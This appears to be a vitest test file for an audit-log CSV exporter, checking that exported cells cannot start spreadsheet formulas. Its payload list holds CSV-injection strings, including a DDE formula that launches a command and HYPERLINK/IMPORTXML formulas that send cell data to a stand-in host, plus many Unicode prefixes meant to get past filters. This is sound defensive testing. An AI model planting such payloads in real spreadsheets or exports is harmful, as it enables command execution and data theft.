import { describe, expect, test } from 'vitest';
import { AUDIT_CSV_HEADER, auditCsvRow, csvCell } from '../../src/core/audit/audit-csv.ts';
import { entryLine } from '../../src/core/audit/audit-line.ts';
import type { AuditBody, SealedEntry } from '../../src/schema/audit.ts';
import { parseCsv } from './parse-csv.ts';
import { exportText, sampleEntries } from './sample-export.ts';
import { sampleBody, sealAll, seeded } from './sample-log.ts';

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
];
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹦', '﹢', '﹣', '﹫'];
const COVERS = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2060', '\u0000', '"', "'", '  \t'];

const OTHERS = ['\tplain', '\rplain', '\nplain', '=', '-', '+', '@', '=1+1\n=2+2', '"=1+1"', '",=1+1', 'a\r\n=1+1'].concat([
  'x;=1+1',
  "x; =cmd|' /C calc'!A0",
  'x;"=1+1"',
  'x;\t@A1',
]);

const PAYLOADS = [
  ...new Set([
    ...FORMULAS,
    ...FORMULAS.map((formula) => `@SUM(${formula.slice(1)})`),
    ...STARTS.map((start) => `${start}1+1`),
    ...COVERS.flatMap((cover) => ['=1+1', '+82-2-123', '@A1', '-2+3'].map((formula) => cover + formula)),
    ...OTHERS,
  ]),
];

/** What a spreadsheet would calculate: a cell whose first visible sign starts a formula. Written on purpose unlike the code. */
function startsFormula(cell: string): boolean {
  const first = Array.from(cell).find((sign) => !/[\s\p{Cc}\p{Cf}\p{Zs}]/u.test(sign));
  return (first !== undefined && STARTS.includes(first)) || /^[\t\r\n]/.test(cell);
}

const entryWith = (text: string): SealedEntry => {
  const body: AuditBody = sampleBody(seeded(1), 'run-paused');
  const actor = { kind: 'person', id: text, channel: text } as const;
  const [entry] = sealAll([{ ...body, subject: { ...body.subject, id: text }, run_id: text, actor, data: { reason: text } }]);
  return entry as SealedEntry;
};

describe('CSV', () => {
  test('has enough payloads to mean something', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    expect(PAYLOADS.filter(startsFormula).length).toBeGreaterThanOrEqual(50);
  });

  test.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))('%s is text in every column', (_, payload) => {
    const entry = entryWith(payload);
    const [header, row] = parseCsv(AUDIT_CSV_HEADER.slice(1) + auditCsvRow(entryLine(entry))) as [string[], string[]];
    expect(row).toHaveLength(header.length);
    for (const cell of row) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
    // Only apostrophes were added, and the data says exactly what the entry says.
    const id = row[header.indexOf('subject_id')] ?? '';
    expect(id.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    expect(JSON.parse(row[header.indexOf('data')] ?? '')).toEqual({ reason: payload });
    // Where the semicolon separates cells, none of them starts a formula either.
    for (const part of row.join(',').split(';').slice(1)) expect(startsFormula(part.replace(/^["\s]+/, '')), part).toBe(false);
  });

  test('leaves ordinary text as it is', () => {
    for (const text of ['김하늘', 'lee.jiwoo', 'a-b', 'a=b', 'x; y', "it's", '2026-01-05', '']) {
      expect(parseCsv(`${csvCell(text)},\r\n`)[0]?.[0]).toBe(text);
    }
  });

  test('starts with a byte order mark and the columns, and has one row per entry', () => {
    const entries = sampleEntries(200);
    const text = AUDIT_CSV_HEADER + exportText(entries).split('\n').map(auditCsvRow).join('');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [header, ...rows] = parseCsv(text.slice(1)) as [string[], ...string[][]];
    expect(header.join(' ')).toBe('seq at type subject_type subject_id subject_version run_id actor_kind actor_id channel data prev hash');
    expect(rows).toHaveLength(200);
    for (const [index, row] of rows.entries()) {
      const entry = entries[index] as SealedEntry;
      const { body } = entry;
      expect(JSON.parse(row[10] ?? '')).toEqual(body.data);
      expect([...row.slice(0, 10), ...row.slice(11)]).toEqual([
        String(entry.seq),
        entry.at,
        body.type,
        body.subject.type,
        body.subject.id,
        String(body.subject.version),
        body.run_id ?? '',
        body.actor.kind,
        body.actor.id,
        body.actor.channel ?? '',
        entry.prev,
        entry.hash,
      ]);
    }
  });
});
